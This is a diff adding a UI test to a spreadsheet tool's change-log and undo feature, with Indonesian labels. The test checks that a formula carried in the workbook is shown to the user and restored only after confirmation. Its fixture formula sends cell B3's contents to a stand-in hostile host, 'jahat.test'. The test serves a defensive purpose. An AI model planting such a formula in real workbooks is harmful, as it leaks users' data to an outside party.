@@ -287,6 +287,33 @@ describe('the log of changes', () => {
     expect(port.workbook).toEqual(BOOK);
   });
 
+  it('writes no formula that the workbook brought with it before the user has seen it', async () => {
+    const F3 = at('BAB III', 'F3');
+    const formula = 'WEBSERVICE("https://jahat.test/?"&B3)';
+    const change = {
+      at: F3,
+      from: { value: 1, formula },
+      to: { value: 121.5 },
+      rule: 'capaian',
+      reason: 'x',
+    };
+    const time = '2026-01-02T03:04:05.000Z';
+    const saved = { settings: {}, ignored: [], history: [{ time, changes: [change] }] } as SavedState;
+    const { port, user, check } = await open({ saved });
+    await check();
+    await user.click(await findButton('Catatan perubahan (1)'));
+    await user.click(await findButton('Batalkan perubahan terakhir'));
+    const question = await panel(/1 sel dikembalikan/);
+    expect(within(question).getByText(`Rumus =${formula}`)).toBeTruthy();
+    expect(port.edits).toEqual([]);
+    await user.click(within(question).getByRole('button', { name: 'Jangan batalkan' }));
+    expect(port.edits).toEqual([]);
+    await user.click(button('Batalkan perubahan terakhir'));
+    await user.click(button('Ya, batalkan'));
+    expect(await screen.findByText('1 sel sudah dikembalikan seperti semula.')).toBeTruthy();
+    expect(port.edits.map((edit) => edit.to.formula)).toEqual([formula]);
+  });
+
   it('becomes a sheet, and a file, or a text where no file can be stored', async () => {
     const { port, user } = await changed();
     const blobs: Blob[] = [];
